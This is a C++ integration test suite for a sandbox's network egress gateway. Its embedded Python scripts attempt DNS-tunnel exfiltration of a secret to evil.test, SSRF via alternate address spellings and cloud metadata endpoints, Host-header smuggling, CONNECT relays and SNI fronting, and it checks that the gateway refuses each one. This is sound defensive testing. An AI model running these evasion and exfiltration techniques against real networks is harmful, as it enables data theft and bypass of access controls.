// What a program may try to get past the network gateway.
#include <gmock/gmock.h>

#include "tests/integration/network_world.h"

namespace mxc::test::network_attacks_test {
namespace {

using testing::AllOf;
using testing::Contains;
using testing::Each;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::StartsWith;

using NetworkAttacks = NetworkWorld;
MXC_FOR_EACH_CALLER(NetworkAttacks);

// Questions of our own making: ask(server, name, type) is the answer's code and number of answers, over UDP
// or TCP.
constexpr const char* kAsk = R"(
import os, random, socket, struct, sys
def labels(name):
    return b"".join(bytes([len(l)]) + l for l in name.encode("latin1").split(b".") if l) + b"\0"
def ask(server, name, kind, tcp=False, raw=None):
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + (raw or labels(name)) + struct.pack("!2H", kind, 1)
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET,
                      socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.connect((server, 53))
        s.sendall(struct.pack("!H", len(query)) + query if tcp else query)
        answer = s.recv(4096)[2 if tcp else 0:]
        return "code %d answers %d" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0])
    except OSError:
        return "nothing"
)";

std::string Python(const std::string& program) { return "python3 - <<'END'\n" + program + "\nEND\n"; }

TEST_P(NetworkAttacks, DnsCarriesNothingOut) {
  const std::string program = std::string(kAsk) + R"(
A, NS, NULL, TXT, AAAA, AXFR, ANY = 1, 2, 10, 16, 28, 252, 255
secret = os.urandom(30).hex()
for server in ("203.0.113.53", "198.18.0.2", "8.8.8.8", "2001:db8::53", "127.0.0.53"):
    for tcp in (False, True):
        for name in (secret + ".evil.test", ".".join([secret] * 3) + ".evil.test", secret + ".good.test", "evil.test",
                     "good.test.evil.test", "good.testx"):
            for kind in (A, TXT, NULL, AAAA):
                print(ask(server, name, kind, tcp))
for kind in (TXT, NULL, NS, AXFR):
    print(ask("203.0.113.53", "evil.test", kind, True))
print("allowed", ask("203.0.113.53", "good.test", TXT), ask("203.0.113.53", "good.test", NULL),
      ask("203.0.113.53", "good.test", AXFR, True), ask("203.0.113.53", "good.test", A)))";
  for (const char* engine : kEngines) {
    const Ended ended = RunPolicy(engine, kOnlyGood, Python(program));
    std::vector<std::string> lines = Lines(ended.out);
    ASSERT_EQ(lines.size(), 5 * 2 * 6 * 4 + 4 + 1) << ended.out << ended.err;
    // The allowed name: no data but its address, and nobody is asked for more.
    EXPECT_EQ(lines.back(), "allowed code 0 answers 0 code 0 answers 0 code 0 answers 0 code 0 answers 1");
    lines.pop_back();
    EXPECT_THAT(lines, Each("code 3 answers 0"));
  }
  EXPECT_THAT(Asked(), IsEmpty());  // nothing was dialled, so nothing was asked
  EXPECT_THAT(Seen(), IsEmpty());
}

TEST_P(NetworkAttacks, OtherSpellingsOfNamesAndAddresses) {
  const std::string program = std::string(kAsk) + R"(
for raw in (b"\x09good.test\0", b"\x04good\x05test\0\0", b"\x0agood.test\0\0", b"\x05go%od\x04test\0",
            b"\x04good\x04test\x05.evil\x04test\0", b"\x05good\0\x04test\0"):
    print(ask("203.0.113.53", "", 1, raw=raw))
for name in ("good.test", "GOOD.test", "good.test."):
    print("same", ask("203.0.113.53", name, 1)))";
  for (const char* engine : kEngines) {
    const Ended names = RunPolicy(engine, kOnlyGood, Python(program));
    std::vector<std::string> lines = Lines(names.out);
    ASSERT_EQ(lines.size(), 9U) << names.err;
    EXPECT_THAT(std::vector<std::string>(lines.begin() + 6, lines.end()), Each("same code 0 answers 1"));
    lines.resize(6);
    EXPECT_THAT(lines, Each(testing::AnyOf("code 1 answers 0", "code 3 answers 0", "nothing")));
    const Ended urls = RunPolicy(engine, kOnlyGood,
                                 Try("good.test@evil.test good.test%00.evil.test evil.test%2f.good.test "
                                     "0313.0.113.1 0xcb.0.113.1 3405803777 "
                                     "203.113 [::ffff:203.0.113.1] [::ffff:cb00:7101] [64:ff9b::203.0.113.1] "
                                     "[2002:cb00:7101::1] 0 127.1 "
                                     "[::127.0.0.1] 169.254.169.254 [fd00:ec2::254] metadata.google.internal "
                                     "198.18.0.1 192.0.0.8 [fe80::1]",
                                     "curl -s -m 10 \"http://$x/never\""));
    EXPECT_THAT(Lines(urls.out), Each(StartsWith("no "))) << urls.out;
    EXPECT_EQ(Lines(urls.out).size(), 20U);
  }
  EXPECT_THAT(Seen(), IsEmpty());
}

// Over one allowed connection to one that is not.
TEST_P(NetworkAttacks, FrontingAndRelays) {
  const std::string program = R"(
import socket, ssl
def say(text, tls=None):
    try:
        s = socket.create_connection(("good.test", 443 if tls else 80), 10)
        s.settimeout(10)
        if tls:
            context = ssl._create_unverified_context()
            s = context.wrap_socket(s, server_hostname=tls)
        s.sendall(text.encode("latin1"))
        return "yes" if s.recv(100) else "no"
    except OSError:
        return "no"
get = "GET /never HTTP/1.1\r\n%s\r\n\r\n"
print(say(get % "Host: other.test"))
print(say(get % "Host: good.test\r\nHost: other.test"))
print(say(get % "Host:\tother.test"))
print(say(get % "Host : other.test\r\nHost: good.test"))
print(say(get % "X: y\r\n\tz\r\nHost: good.test"))
print(say(get % "Host: good.test\0.other.test"))
print(say(get % "Host: good.test:80@other.test"))
print(say(" " + get % "Host: other.test"))
print(say("GET http://other.test/never HTTP/1.1\r\nHost: good.test\r\n\r\n"))
print(say("CONNECT other.test:80 HTTP/1.1\r\nHost: good.test\r\n\r\n"))
print(say("CONNECT good.test:25 HTTP/1.1\r\nHost: good.test\r\n\r\n"))
print(say("GET http://good.test:8080/never HTTP/1.1\r\nHost: good.test\r\n\r\n"))
print(say("CONNECT 203.0.113.2:80 HTTP/1.1\r\nHost: good.test\r\n\r\n"))
print(say("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
print(say(get % "Host: other.test", tls="other.test"))
print(say("\x16\x03\x01"  "\x00\x05\x01\x00\x00\x01\x00"))
print("good", say("GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"), say("GET / HTTP/1.1\r\nHost: good.test\r\n\r\n", tls="good.test")))";
  for (const char* engine : kEngines) {
    const Ended ended = RunPolicy(engine, kOnlyGood, Python(program));
    std::vector<std::string> lines = Lines(ended.out);
    ASSERT_EQ(lines.size(), 17U) << ended.out << ended.err;
    EXPECT_EQ(lines.back(), "good yes yes");
    lines.pop_back();
    EXPECT_THAT(lines, Each("no"));
  }
  const std::vector<std::string> seen = Seen();
  for (const std::string& line : seen) EXPECT_EQ(line.find("never"), std::string::npos) << line;
}

// With TCP and UDP, IPv4 and IPv6, also of a thread: an address that is denied looks like none that is there.
// What is sent without connecting is refused as well, and each of them is told.
TEST_P(NetworkAttacks, DeniedDestinationsAreRefusedAtConnect) {
  const std::string program = R"(
import errno, socket, threading
def connect(kind, address, port):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind)
    try:
        s.connect((address, port))
        return "connected"
    except OSError as error:
        return errno.errorcode[error.errno]
def send(address):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    try:
        return s.sendto(b"x", (address, 9))
    except OSError as error:
        return errno.errorcode[error.errno]
for address in "203.0.113.9", "2001:db8::9":
    print(connect(socket.SOCK_STREAM, address, 9), connect(socket.SOCK_DGRAM, address, 9), send(address))
mapped = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
print(mapped.connect_ex(("::ffff:203.0.113.8", 9)) == errno.EACCES)
thread = threading.Thread(target=lambda: print(connect(socket.SOCK_DGRAM, "203.0.113.7", 9)))
thread.start(); thread.join()
local = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); local.bind(("127.0.0.1", 0)); local.settimeout(0.2)
print(connect(socket.SOCK_DGRAM, "203.0.113.1", 7), connect(socket.SOCK_DGRAM, *local.getsockname()))
try: print("asked", local.recv(9))
except TimeoutError: print("not asked")
for cork in True, False:  # a datagram that is held back stays as it is
    held = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); held.settimeout(9)
    if cork: held.setsockopt(socket.IPPROTO_UDP, 1, 1)
    held.sendto(b"te", 0 if cork else 0x8000, ("203.0.113.1", 7))
    print(held.connect_ex(("203.0.113.9", 9)) == errno.EACCES)
    if cork: held.sendto(b"xt", ("203.0.113.1", 7)); held.setsockopt(socket.IPPROTO_UDP, 1, 0)
    else: held.sendto(b"xt", ("203.0.113.1", 7))
    print(held.recv(9)))";
  constexpr const char* kEcho = R"({"egress":{"allow":[{"to":[{"cidr":"203.0.113.1"}],
      "ports":[{"protocol":"udp","port":7}]}]}})";
  for (const char* engine : kEngines) {
    const std::string result = workspace.Path(std::string("result-") + engine);
    const Ended ended = RunPolicy(engine, kEcho, Python(program), {"--result", result});
    EXPECT_EQ(ended.out,
              "ECONNREFUSED EACCES EPERM\nECONNREFUSED EACCES EPERM\nTrue\nEACCES\nconnected connected\nnot "
              "asked\nTrue\nb'echo text'\nTrue\nb'echo text'\n")
        << engine << ended.err;
    const std::string told = Contents(result).value_or("");
    for (const char* address : {"203.0.113.9", "203.0.113.8", "203.0.113.7", "2001:db8::9"}) {
      EXPECT_THAT(Lines(told),
                  Contains(AllOf(HasSubstr(R"("protocol":"udp")"), HasSubstr(R"("verdict":"deny")"),
                                 HasSubstr("\"address\":\"" + std::string(address) + "\""))))
          << engine << told;
    }
  }
  // The question is for nobody, and no part of it in what was held back.
  EXPECT_THAT(Seen(), testing::Each("udp 203.0.113.1:7 text"));
}

// Sockets for ICMP cannot be had, whatever the destination: ping fails before it has sent anything.
TEST_P(NetworkAttacks, EchoRequestsAreRefusedAtOnce) {
  const std::string program = R"(
import socket
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
                               (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                               (socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6),
                               (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)):
    try:
        socket.socket(family, kind, protocol)
        print("a socket")
    except PermissionError:
        print("refused"))";
  for (const char* engine : kEngines) {
    EXPECT_EQ(RunPolicy(engine, R"({"egress":{"default":"allow"}})", Python(program)).out,
              "refused\nrefused\nrefused\nrefused\n");
  }
}

// An allowed name that changes its mind: the address it has when it is dialled is the one that is judged.
TEST_P(NetworkAttacks, AnAllowedNameIsJudgedAgainEachTime) {
  int turning = 0;
  for (const char* engine : kEngines) {
    const std::string name = "turning" + std::to_string(++turning) + ".test";  // it turns once
    const Ended ended = RunPolicy(engine, R"({"egress":{"allow":[{"to":[{"host":")" + name + R"("}]}]}})",
                                  Try("1 2 3", "curl -s -m 10 http://" + name + "/"));
    EXPECT_THAT(Lines(ended.out), ElementsAre("yes", "no 2", "no 3")) << ended.err;
  }
  EXPECT_THAT(Seen(), Each(StartsWith("tcp 203.0.113.1:80 ")));
  EXPECT_THAT(Seen(), testing::Not(IsEmpty()));
}

}  // namespace
}  // namespace mxc::test::network_attacks_test
